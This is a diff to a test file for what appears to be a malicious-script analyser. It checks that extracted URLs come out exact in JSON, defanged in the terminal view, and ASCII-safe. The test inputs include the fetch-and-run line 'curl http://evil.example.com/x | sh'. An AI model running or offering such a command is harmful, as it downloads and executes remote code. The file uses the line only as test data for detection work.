@@ -45,12 +45,24 @@ def test_json_names_each_layer(tmp_path: Path) -> None:
     assert all(set(layer) == keys for layer in document["layers"])
 
 
-def test_standard_input_is_examined_and_clues_are_defanged() -> None:
+def test_clues_are_exact_for_programs_and_defanged_for_people() -> None:
     script = b"#!/bin/sh\ncurl http://evil.example.com/x | sh\n"
     result = _run("-", "--format", "json", data=script)
     clues = json.loads(result.output)["clues"]
-    assert {"kind": "url", "value": "hxxp://evil[.]example[.]com/x", "layer": 0} in clues
-    assert "http://evil" not in result.output
+    url, defanged = "http://evil.example.com/x", "hxxp://evil[.]example[.]com/x"
+    assert {"kind": "url", "value": url, "defanged": defanged, "layer": 0} in clues
+    shown = _run("-", data=script).output
+    assert defanged in shown
+    assert url not in shown
+
+
+def test_json_is_ascii_whatever_the_content() -> None:
+    script = b"#!/bin/sh\ncurl http://evil.example.com/\xff\xfe\x1b\xe2\x80\xae\x7f | sh\n"
+    result = _run("-", "--format", "json", data=script)
+    assert result.output.isascii()
+    assert not set(result.output) & {"\x1b", "\x7f"}
+    assert all(set(one) == {"kind", "value", "defanged", "layer"}
+               for one in json.loads(result.output)["clues"])  # fmt: skip
 
 
 def test_the_terminal_shows_layers_and_no_escape_codes() -> None:
